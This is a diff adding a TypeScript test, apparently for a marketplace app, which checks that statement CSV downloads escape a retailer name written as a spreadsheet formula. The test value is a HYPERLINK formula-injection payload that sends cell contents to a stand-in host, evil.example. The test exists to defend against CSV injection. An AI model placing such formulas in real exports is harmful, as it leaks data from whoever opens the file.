@@ -1,3 +1,5 @@
+import { parse } from 'csv-parse/sync';
+import { SESSION_COOKIE } from '../src/auth/auth.decorators';
 import { addLocation, makeDealer, northOf, PORTLAND } from './support/board';
 import { Account, bearer, createManufacturer, createOps, createRetailer, Tenant } from './support/factories';
 import { createProduct, placeOrder, storeSlugOf } from './support/marketplace';
@@ -63,5 +65,46 @@ describe('settlement statements', () => {
     const backwards = await t.http.get('/api/v1/retailer/statements?from=2020-02-01&to=2020-01-01').set(bearer(shop.admin.token)).expect(400);
     expect(backwards.body.message).toMatch(/from must be before to/);
     await t.http.get('/api/v1/retailer/statements?from=yesterday&to=2020-01-01').set(bearer(shop.admin.token)).expect(400);
+  });
+});
+
+describe('statement CSV downloads and spreadsheet formulas', () => {
+  let t: TestApp;
+  let maker: Tenant;
+  let shop: Tenant;
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  const period = `from=${new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)}&to=${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`;
+  const session = (token: string) => ({ Cookie: `${SESSION_COOKIE}=${token}` });
+
+  beforeAll(async () => {
+    t = await startTestApp();
+    const ops = await createOps(t);
+    maker = await createManufacturer(t, ops);
+    shop = await createRetailer(t, ops, formula);
+    await addLocation(t, shop, northOf(PORTLAND, 3));
+    await makeDealer(t, maker, shop);
+    const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
+    const order = await placeOrder(t, await storeSlugOf(t, maker), { lines: [{ sku: product.sku }] });
+    await t.http.put(`/api/v1/retailer/board/${order.id}/bid`).set(bearer(shop.admin.token)).send({}).expect(200);
+    await resolveNow(t, ops.token, maker.id);
+    await t.http.post(`/api/v1/retailer/orders/${order.id}/shipments`).set(bearer(shop.admin.token)).send({ carrier: 'USPS', trackingNumber: '9400 1000 0000 0000 0000 00' }).expect(200);
+  });
+  afterAll(() => t.close());
+
+  it("writes a retailer named as a formula as text in every statement CSV, and keeps the amounts numbers", async () => {
+    const downloads = [
+      t.http.get(`/api/v1/manufacturer/statements/csv?${period}`).set(bearer(maker.admin.token)),
+      t.http.get(`/manufacturer/statement/csv?${period}`).set(session(maker.admin.token)),
+      t.http.get(`/api/v1/retailer/statements/csv?${period}`).set(bearer(shop.admin.token)),
+      t.http.get(`/retailer/statement/csv?${period}`).set(session(shop.admin.token)),
+    ];
+    for (const download of await Promise.all(downloads)) {
+      expect(download.status).toBe(200);
+      expect(download.headers['content-type']).toMatch(/^text\/csv/);
+      const [row] = parse(download.text, { columns: true }) as Record<string, string>[];
+      expect(row.fulfilledBy).toBe(`'${formula}`);
+      expect(row.totalMinor).toBe('150000');
+      expect(Number(row.receivesMinor)).toBeGreaterThan(0);
+    }
   });
 });
